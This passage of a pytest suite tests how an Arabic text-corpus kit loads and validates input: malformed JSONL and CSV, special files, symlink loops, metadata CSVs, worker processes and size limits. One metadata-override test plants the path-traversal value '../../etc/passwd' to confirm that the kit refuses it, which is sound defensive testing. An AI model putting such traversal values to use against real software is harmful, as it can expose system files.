            assert corpus.articles.set_index("article_id").loc["b", "published_raw"] == "1445-05-26"


@pytest.mark.usefixtures("deadline")
def test_a_jsonl_line_with_a_lone_surrogate_is_an_error_for_that_line_only(tmp_path, cache_dir):
    path = tmp_path / "surrogates.jsonl"
    lines = [json.dumps({"article_id": "ok1", "text": seed(UNDATED)}, ensure_ascii=False)]
    lines.append('{"article_id": "bad", "text": "' + "وقال لافروف \\ud800 إن" + '"}')  # valid JSON, not valid Unicode
    lines.append('{"article_id": "bad_title", "title": "\\udfff", "text": "نص"}')
    lines.append('{"article_id": "bad_key", "\\ud83d": "x", "text": "نص"}')
    lines.append(json.dumps({"article_id": "ok2", "text": seed("001_911741716f96cebe")}, ensure_ascii=False))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    corpus = kit.load_corpus(path)
    assert list(corpus.articles["article_id"]) == ["ok1", "ok2"]
    errors = corpus.errors.set_index("row")
    assert sorted(errors.index) == [2, 3, 4] and (errors["level"] == "error").all()
    assert f"{path}, row 2: field 'text' holds '\\ud800'" in errors.loc[2, "reason"]
    assert f"{path}, row 3: field 'title' holds '\\udfff'" in errors.loc[3, "reason"]
    assert f"{path}, row 4: the name of a field holds '\\ud83d'" in errors.loc[4, "reason"]
    annotated = kit.load(path)
    assert set(annotated.sentences["article_id"]) == {"ok1", "ok2"} and len(annotated.errors) == 3
    result = run_kit("annotate", str(path), "-o", str(tmp_path / "out"), "--no-progress", cache=cache_dir)
    assert result.returncode == 0, result.stderr[-2000:]
    assert sorted(errors_csv(tmp_path / "out")["row"].astype(int)) == [2, 3, 4]


@pytest.mark.usefixtures("deadline")
@pytest.mark.parametrize(
    "value, kind",
    [("5", "a number"), ("2.5", "a number"), ("true", "true/false"), ('["نص"]', "a list"), ('{"ar": "نص"}', "an object")],
)
def test_a_text_that_is_not_a_string_says_what_it_is(tmp_path, value, kind):
    path = tmp_path / "typed.jsonl"
    path.write_text(f'{{"article_id": "x", "text": {value}}}\n' + json.dumps({"article_id": "ok", "text": seed(UNDATED)}, ensure_ascii=False) + "\n", encoding="utf-8")
    corpus = kit.load_corpus(path)
    assert list(corpus.articles["article_id"]) == ["ok"]
    assert corpus.errors["reason"].tolist() == [f"{path}, row 1: text is {kind}, not a string"]


@pytest.mark.usefixtures("deadline")
def test_a_parquet_text_column_of_numbers_says_so(tmp_path):
    path = tmp_path / "numbers.parquet"
    pd.DataFrame({"article_id": ["n1", "n2"], "text": [3, 4]}).to_parquet(path)
    corpus = kit.load_corpus(path)
    assert corpus.articles.empty
    assert corpus.errors["reason"].tolist() == [f"{path}, row {n}: text is a number, not a string" for n in (1, 2)]


@pytest.mark.usefixtures("deadline")
@pytest.mark.parametrize(
    "suffix, delimiter, named",
    [(".csv", ";", "semicolon"), (".csv", "\t", "tab"), (".tsv", ",", "comma"), (".tsv", ";", "semicolon"), (".csv", ",", None), (".tsv", "\t", None)],
)
def test_csv_and_tsv_sniff_the_delimiter_and_say_when_it_is_not_the_default(tmp_path, suffix, delimiter, named):
    path = tmp_path / f"table{suffix}"
    texts = [seed(UNDATED), seed("001_911741716f96cebe")]  # their text holds commas, semicolons are rarer
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(["article_id", "title", "text"])
        writer.writerows([["d1", "عنوان، أول; ثم", texts[0]], ["d2", "عنوان ثان", texts[1]]])
    corpus = kit.load_corpus(path)
    articles = corpus.articles.set_index("article_id")
    assert list(articles.index) == ["d1", "d2"] and articles.loc["d1", "text"] == texts[0] and articles.loc["d1", "title"] == "عنوان، أول; ثم"
    if named is None:
        assert corpus.errors.empty
    else:
        assert corpus.errors["level"].tolist() == ["warning"]
        assert corpus.errors["reason"].iloc[0].startswith(f"{path}: read with the {named} ({delimiter!r}) as delimiter")


def special_folder(tmp_path: Path) -> Path:
    """A corpus folder with one article and a FIFO, a socket and a device named .txt."""
    folder = tmp_path / "special"
    folder.mkdir()
    (folder / "article.txt").write_text(seed(UNDATED), encoding="utf-8")
    os.mkfifo(folder / "pipe.txt")  # reading it would wait for a writer for ever
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "socket.txt"))
    server.close()
    (folder / "null.txt").symlink_to(os.devnull)
    return folder


SPECIAL = {"pipe.txt": "a FIFO (named pipe), not a regular file; not read", "socket.txt": "a socket, not a regular file; not read", "null.txt": "a character device, not a regular file; not read"}


def assert_listed(errors: pd.DataFrame, folder: Path, expected: dict[str, str], level: str) -> None:
    rows = errors[errors["level"] == level]
    assert sorted(rows["reason"]) == sorted(f"{folder / name}: {says}" for name, says in expected.items())


@pytest.mark.usefixtures("deadline")
def test_fifos_sockets_and_devices_get_a_warning_and_are_never_read(tmp_path, cache_dir):
    folder = special_folder(tmp_path)
    corpus = kit.load_corpus(folder)
    assert corpus.articles["path"].tolist() == ["article.txt"]
    assert_listed(corpus.errors, folder, SPECIAL, "warning")
    for attempt in range(2):  # annotated, then reopened from the cache
        annotated = kit.load(folder)
        assert annotated.errors.equals(corpus.errors) and len(annotated.articles) == 1
    result = run_kit("annotate", str(folder), "-o", str(tmp_path / "out"), "--no-progress", cache=cache_dir)
    assert result.returncode == 0, result.stderr[-2000:]
    assert_listed(errors_csv(tmp_path / "out"), folder, SPECIAL, "warning")


@pytest.mark.usefixtures("deadline")
def test_a_fifo_given_as_the_corpus_or_as_its_metadata_is_not_read(tmp_path, cache_dir):
    fifo = tmp_path / "feed.txt"
    os.mkfifo(fifo)
    corpus = kit.load_corpus(fifo)
    assert corpus.articles.empty and corpus.errors["reason"].tolist() == [f"{fifo}: {SPECIAL['pipe.txt']}"]
    assert kit.load(fifo).errors.equals(corpus.errors)
    result = run_kit("annotate", str(fifo), "-o", str(tmp_path / "out"), "--no-progress", cache=cache_dir)
    assert result.returncode == 0 and errors_csv(tmp_path / "out")["reason"].tolist() == corpus.errors["reason"].tolist()
    table = tmp_path / "table" / "articles.csv"
    table.parent.mkdir()
    dated_table(table, ["2023-11-10"])
    os.mkfifo(table.parent / "metadata.csv")
    corpus = kit.load_corpus(table)
    assert len(corpus.articles) == 1 and corpus.errors["reason"].tolist() == [f"{table.parent / 'metadata.csv'}: not a regular file (or a broken link); metadata not applied"]


def linked_folder(tmp_path: Path) -> tuple[Path, dict[str, str], dict[str, str]]:
    """A corpus folder whose articles are reached through links, inside and outside it, with broken links
    and loops; returns the folder, the articles' paths → seed id, and the bad entries → what they are."""
    folder, outside = tmp_path / "linked", tmp_path / "elsewhere"
    (folder / "2023").mkdir(parents=True)
    (outside / "deep").mkdir(parents=True)
    (folder / "2023" / "a.txt").write_text(seed(UNDATED), encoding="utf-8")
    (outside / "b.txt").write_text(seed("001_911741716f96cebe"), encoding="utf-8")
    (outside / "deep" / "c.txt").write_text(seed("003_187d395c4a0346df"), encoding="utf-8")
    (folder / "latest").symlink_to("2023", target_is_directory=True)  # a sub-folder linked inside the corpus
    (folder / "archive").symlink_to(outside, target_is_directory=True)  # and one outside it
    (folder / "single.txt").symlink_to(outside / "b.txt")
    (folder / "gone.txt").symlink_to(tmp_path / "deleted.txt")
    (folder / "ping.txt").symlink_to("pong.txt")
    (folder / "pong.txt").symlink_to("ping.txt")
    (folder / "2023" / "up").symlink_to("..", target_is_directory=True)
    (outside / "deep" / "again").symlink_to(outside, target_is_directory=True)
    articles = {"2023/a.txt": UNDATED, "latest/a.txt": UNDATED, "archive/b.txt": "001_911741716f96cebe", "archive/deep/c.txt": "003_187d395c4a0346df", "single.txt": "001_911741716f96cebe"}
    bad = {
        "gone.txt": f"a symbolic link to {tmp_path / 'deleted.txt'}, which does not exist",
        "ping.txt": "a loop of symbolic links (pong.txt)",
        "pong.txt": "a loop of symbolic links (ping.txt)",
        "2023/up": "a symbolic link to .. that contains it: a loop, not followed",
        "latest/up": "a symbolic link to .. that contains it: a loop, not followed",
        "archive/deep/again": f"a symbolic link to {outside} that contains it: a loop, not followed",
    }
    return folder, articles, bad


@pytest.mark.usefixtures("deadline")
def test_symlinks_are_followed_with_loop_protection_and_broken_ones_listed(tmp_path, cache_dir):
    folder, articles, bad = linked_folder(tmp_path)
    corpus = kit.load_corpus(folder)
    texts = corpus.articles.set_index("path")["text"]
    assert sorted(texts.index) == sorted(articles)
    assert all(texts[path] == seed(seed_id) for path, seed_id in articles.items())
    assert_listed(corpus.errors, folder, bad, "error")
    assert not (corpus.errors["level"] == "warning").any()
    for attempt in range(2):  # the cache key stats the same files the loader reads
        annotated = kit.load(folder)
        assert annotated.errors.equals(corpus.errors)
        assert sorted(annotated.articles["path"]) == sorted(articles)
    result = run_kit("annotate", str(folder), "-o", str(tmp_path / "out"), "--no-progress", cache=cache_dir)
    assert result.returncode == 0, result.stderr[-2000:]
    assert_listed(errors_csv(tmp_path / "out"), folder, bad, "error")


@pytest.mark.usefixtures("deadline")
def test_a_link_that_breaks_or_heals_changes_the_cached_corpus(tmp_path, cache_dir):
    folder, articles, bad = linked_folder(tmp_path)
    assert "gone.txt" not in set(kit.load(folder).articles["path"])
    (tmp_path / "deleted.txt").write_text(seed("004_2fa40185600453ab"), encoding="utf-8")  # the link now points to a file
    healed = kit.load(folder)
    assert healed.articles.set_index("path").loc["gone.txt", "text"] == seed("004_2fa40185600453ab")
    assert not healed.errors["reason"].str.contains("gone.txt").any()
    (tmp_path / "deleted.txt").unlink()
    assert kit.load(folder).errors["reason"].str.contains("gone.txt").any()


@pytest.mark.usefixtures("deadline")
def test_a_broken_link_given_as_the_corpus_says_so(tmp_path, cache_dir):
    link, loop = tmp_path / "corpus.csv", tmp_path / "loop.txt"
    link.symlink_to(tmp_path / "moved.csv")
    loop.symlink_to(loop.name)
    for path, says in ((link, f"a symbolic link to {tmp_path / 'moved.csv'}, which does not exist"), (loop, "a loop of symbolic links")):
        for load in (kit.load_corpus, kit.load):
            with pytest.raises(FileNotFoundError, match=re.escape(f"{path}: {says}")):
                load(path)
        result = run_kit("annotate", str(path), "-o", str(tmp_path / "out"), cache=cache_dir)
        assert result.returncode == 2 and f"{path}: {says}" in result.stderr and "Traceback" not in result.stderr


def undated_folder(tmp_path: Path, names: tuple[str, ...]) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir(parents=True)
    for name in names:
        (folder / f"{name}.txt").write_text(seed(UNDATED), encoding="utf-8")
    return folder


@pytest.mark.usefixtures("deadline")
def test_metadata_csv_with_a_quotation_mark_left_open_names_the_line_and_applies_the_rows_after_it(tmp_path, cache_dir):
    folder = undated_folder(tmp_path, ("a", "b", "c", "d"))
    metadata = folder / "metadata.csv"
    metadata.write_text('article_id,source\na,وكالة أولى\nb,"وكالة ثانية\nc,وكالة ثالثة\nd,"وكالة، رابعة"\n', encoding="utf-8")
    corpus = kit.load_corpus(folder)
    sources = corpus.articles.set_index("article_id")["source"]
    assert sources["a"] == "وكالة أولى" and sources["c"] == "وكالة ثالثة" and sources["d"] == "وكالة، رابعة"
    assert sources["b"] == "سكاي نيوز عربية"  # its own row is refused: the source printed on the page stays
    errors = corpus.errors
    assert errors["row"].tolist() == [3] and errors["level"].tolist() == ["error"]
    assert errors["reason"].iloc[0].startswith(f"{metadata}, line 3: a quotation mark is left open")
    assert kit.load(folder).errors.equals(errors)
    result = run_kit("annotate", str(folder), "-o", str(tmp_path / "out"), "--no-progress", cache=cache_dir)
    assert result.returncode == 0 and errors_csv(tmp_path / "out")["reason"].tolist() == errors["reason"].tolist()


@pytest.mark.usefixtures("deadline")
def test_metadata_csv_columns_that_would_overwrite_the_article_are_refused(tmp_path):
    folder = undated_folder(tmp_path, ("a", "b"))
    metadata = folder / "metadata.csv"
    metadata.write_text(
        "article_id,text,path,n_chars,encoding,published_raw,title,section\n"
        "a,نص بديل,../../etc/passwd,3,cp1256,1445-05-26,عنوان مصحح,اقتصاد\n", encoding="utf-8"
    )
    articles = kit.load_corpus(folder).articles.set_index("article_id")
    plain = kit.load_corpus(undated_folder(tmp_path / "plain", ("a", "b"))).articles.set_index("article_id")
    for column in ("text", "path", "n_chars", "encoding"):
        assert articles.loc["a", column] == plain.loc["a", column], column
    assert "published_raw" not in articles.columns
    assert articles.loc["a", "title"] == "عنوان مصحح" and articles.loc["a", "section"] == "اقتصاد"
    errors = kit.load_corpus(folder).errors
    assert (errors["level"] == "warning").all() and (errors["row"] == 1).all()
    assert errors["reason"].tolist() == [f"{metadata}, line 1: column '{c}' would overwrite what the kit reads from the article; ignored" for c in ("text", "path", "n_chars", "encoding", "published_raw")]


def parallel_corpus(path: Path) -> Path:
    """A CSV of as many short articles (seed paragraphs) as makes `kit.annotate` use worker processes."""
    paragraphs = [line.strip() for p in sorted(SEEDS.glob("*.txt")) for line in p.read_text(encoding="utf-8").split("\n") if len(line.strip()) > 80]
    count = kit.io.workers.PARALLEL_MIN_ITEMS
    pd.DataFrame({"article_id": [f"r{i}" for i in range(count)], "text": [paragraphs[i % len(paragraphs)] for i in range(count)]}).to_csv(path, index=False)
    return path


SCRIPT_BODY = """import sys
import kit

annotated = {call}
print("sentences", len(annotated.sentences))
"""
GUARDED_BODY = """import sys
import kit


def main():
    annotated = {call}
    print("sentences", len(annotated.sentences))


if __name__ == "__main__":
    main()
"""


def run_script(tmp_path: Path, body: str, call: str, cache: Path) -> subprocess.CompletedProcess:
    script = tmp_path / "my_analysis.py"
    script.write_text(body.format(call=call), encoding="utf-8")
    env = {**os.environ, "KIT_CACHE": str(cache), "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, str(script), str(tmp_path / "big.csv")], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=HANG_SECONDS)


@pytest.fixture(scope="module")
def parallel_sentences(tmp_path_factory) -> tuple[Path, int]:
    path = parallel_corpus(tmp_path_factory.mktemp("parallel") / "big.csv")
    return path, len(kit.annotate(path, workers=1, cache=False, progress=False).sentences)


@pytest.mark.usefixtures("deadline")
@pytest.mark.parametrize("call", ["kit.annotate(sys.argv[1], workers=2, cache=False, progress=False)", "kit.load(sys.argv[1], workers=2, progress=False)"])
@pytest.mark.parametrize("body", [SCRIPT_BODY, SCRIPT_BODY + '\nif __name__ == "__main__":\n    print("done")\n'], ids=["no guard", "call outside the guard"])
def test_a_script_without_a_main_guard_annotates_in_one_process_with_a_warning(tmp_path, cache_dir, parallel_sentences, call, body):
    source, sentences = parallel_sentences
    (tmp_path / "big.csv").write_bytes(source.read_bytes())
    result = run_script(tmp_path, body, call, cache_dir)
    assert result.returncode == 0, result.stderr[-3000:]
    assert f"sentences {sentences}" in result.stdout
    script = tmp_path / "my_analysis.py"
    assert f"{script}, line 4: the kit is called outside an `if __name__ == \"__main__\":` block" in result.stderr
    assert "annotating in this one process instead" in result.stderr
    assert "Traceback" not in result.stderr and "BrokenProcessPool" not in result.stderr
    assert len(result.stderr.splitlines()) <= 3  # the warning and the line it points at


@pytest.mark.usefixtures("deadline")
def test_a_guarded_script_uses_its_workers_without_a_warning(tmp_path, cache_dir, parallel_sentences):
    source, sentences = parallel_sentences
    (tmp_path / "big.csv").write_bytes(source.read_bytes())
    result = run_script(tmp_path, GUARDED_BODY, "kit.annotate(sys.argv[1], workers=2, cache=False, progress=False)", cache_dir)
    assert result.returncode == 0, result.stderr[-3000:]
    assert f"sentences {sentences}" in result.stdout and "RuntimeWarning" not in result.stderr


def session_processes(session: int) -> dict[int, str]:
    """Live (not zombie) processes of a session → their command line, from /proc."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rpartition(")")[2].split()
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:  # it ended while we looked
            continue
        if int(fields[3]) == session and fields[0] != "Z":
            found[int(entry.name)] = command
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads the process table from /proc")
@pytest.mark.usefixtures("deadline")
def test_workers_forkserver_and_resource_tracker_exit_when_the_annotating_process_is_killed(tmp_path, cache_dir):
    frame = pd.read_csv(parallel_corpus(tmp_path / "part.csv"))
    big = pd.concat([frame] * 10, ignore_index=True).assign(article_id=lambda f: [f"r{i}" for i in range(len(f))])
    big.to_csv(tmp_path / "big.csv", index=False)  # minutes of work: still running when it is killed
    script = tmp_path / "kernel.py"
    script.write_text('import sys\nimport kit\n\nif __name__ == "__main__":\n    kit.annotate(sys.argv[1], workers=2, cache=False, progress=False)\n', encoding="utf-8")
    env = {**os.environ, "KIT_CACHE": str(cache_dir), "PYTHONPATH": str(ROOT)}
    parent = subprocess.Popen([sys.executable, str(script), str(tmp_path / "big.csv")], env=env, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        started = time.monotonic()
        while len(session_processes(parent.pid)) < 5 and time.monotonic() - started < 90:  # itself, tracker, forkserver, 2 workers
            assert parent.poll() is None, "the annotation ended before it could be killed"
            time.sleep(0.2)
        children = session_processes(parent.pid)
        assert len(children) >= 5, children
        assert any("forkserver" in c for c in children.values()) and any("resource_tracker" in c for c in children.values())
        parent.send_signal(signal.SIGKILL)
        parent.wait()
        killed = time.monotonic()
        while session_processes(parent.pid) and time.monotonic() - killed < 10:
            time.sleep(0.2)
        assert not session_processes(parent.pid), session_processes(parent.pid)
    finally:
        for pid in session_processes(parent.pid):  # leave nothing behind if the test failed
            os.kill(pid, signal.SIGKILL)


def test_an_article_over_the_size_limit_is_an_error_row_and_the_rest_is_annotated(tmp_path, monkeypatch, deadline):
    import subprocess
    import sys

    (tmp_path / "giant.txt").write_text("وقال لافروف إن روسيا مستعدة للحوار. " * 100, encoding="utf-8")  # 3,600 characters
    (tmp_path / "small.txt").write_text("زار بوتين كازاخستان.", encoding="utf-8")
    monkeypatch.setenv("KIT_MAX_CHARS", "2000")
    corpus = kit.load(tmp_path, progress=False, cache=False)
    assert corpus.articles["article_id"].tolist() == ["small"]
    assert corpus.errors["reason"].str.contains("giant.txt: the article is 3,600 characters, over the kit's limit of 2,000").any()
    monkeypatch.setenv("KIT_MAX_CHARS", "1000")  # 6,500 bytes: more than four per allowed character, refused unread
    assert kit.load_corpus(tmp_path).errors["reason"].str.contains("6,500 bytes, over the kit's limit of 1,000 characters").any()
    run = subprocess.run([sys.executable, "-m", "kit", "annotate", str(tmp_path), "-o", str(tmp_path / "out"), "--no-progress", "--no-cache"],
                         capture_output=True, text=True, timeout=300, env={**os.environ, "KIT_MAX_CHARS": "2000"})
    assert run.returncode == 0 and "1 input(s) with level 'error'" in run.stderr
    table = pd.read_csv(tmp_path / "out" / "errors.csv", encoding="utf-8-sig")
    assert table["reason"].str.contains("over the kit's limit").any()
    monkeypatch.delenv("KIT_MAX_CHARS")
    assert len(kit.load_corpus(tmp_path).articles) == 2  # the default limit is twelve million characters
